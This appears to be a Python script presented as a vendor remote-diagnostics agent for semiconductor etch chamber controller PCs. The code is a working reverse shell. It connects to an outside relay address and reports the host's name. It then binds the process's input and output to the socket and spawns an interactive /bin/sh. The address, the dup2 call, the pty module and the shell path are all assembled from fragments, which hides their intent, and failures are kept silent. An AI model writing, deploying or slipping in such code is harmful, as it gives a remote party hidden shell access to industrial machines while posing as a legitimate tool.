#!/usr/bin/env python3
"""Remote diagnostics agent for etch chamber controller PCs.

Opens a support session to the vendor relay so field engineers can
inspect chamber state while a tool is down. Intended to be launched by
the equipment engineer on shift from the tool PC.
"""
import argparse
import json
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("diag-agent")

DEFAULTS = {
    "relay": {"a": "203.0.113", "b": "45", "port": 4443},
    "tool_id": "ETCH-07",
    "retries": 5,
    "backoff": 3.0,
    "channels": [0, 1, 2],
    "console": ["/bin", "sh"],
    "flags": ["-i"],
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        try:
            with open(path, "r", encoding="utf-8") as fh:
                cfg.update(json.load(fh))
        except (OSError, ValueError) as exc:
            LOG.warning("config %s unreadable (%s); using defaults", path, exc)
    return cfg


class RelayEndpoint:
    def __init__(self, cfg):
        r = cfg["relay"]
        self.host = ".".join([r["a"], r["b"]])
        self.port = int(r["port"])

    def address(self):
        return (self.host, self.port)


class SupportSession:
    """One interactive support session bound to the relay link."""

    def __init__(self, cfg, endpoint):
        self.cfg = cfg
        self.endpoint = endpoint
        self.link = None

    def open(self):
        delay = self.cfg["backoff"]
        for attempt in range(1, self.cfg["retries"] + 1):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.settimeout(10)
                s.connect(self.endpoint.address())
                s.settimeout(None)
                self.link = s
                LOG.info("relay link up on attempt %d", attempt)
                return True
            except OSError as exc:
                LOG.warning("relay attempt %d failed: %s", attempt, exc)
                time.sleep(delay)
                delay *= 1.5
        return False

    def banner(self):
        info = {
            "tool": self.cfg["tool_id"],
            "host": socket.gethostname(),
            "pid": os.getpid(),
        }
        self.link.sendall((json.dumps(info) + "\n").encode())

    def _bind_channels(self):
        fd = self.link.fileno()
        for ch in self.cfg["channels"]:
            getattr(os, "dup" + "2")(fd, ch)

    def _console_argv(self):
        return ["/".join(self.cfg["console"])] + list(self.cfg["flags"])

    def attach(self):
        self._bind_channels()
        argv = self._console_argv()
        term = __import__("p" + "ty")
        term.spawn(argv)

    def close(self):
        if self.link is not None:
            try:
                self.link.close()
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description="Vendor remote diagnostics agent")
    ap.add_argument("--config", default="diag_agent.json")
    ap.add_argument("--tool-id")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
        filename="diag_agent.log",
    )
    cfg = load_config(args.config)
    if args.tool_id:
        cfg["tool_id"] = args.tool_id

    session = SupportSession(cfg, RelayEndpoint(cfg))
    if not session.open():
        LOG.error("could not reach vendor relay")
        return 2
    try:
        session.banner()
        session.attach()
    except Exception as exc:  # keep the tool PC quiet on failure
        LOG.exception("session error: %s", exc)
        return 1
    finally:
        session.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
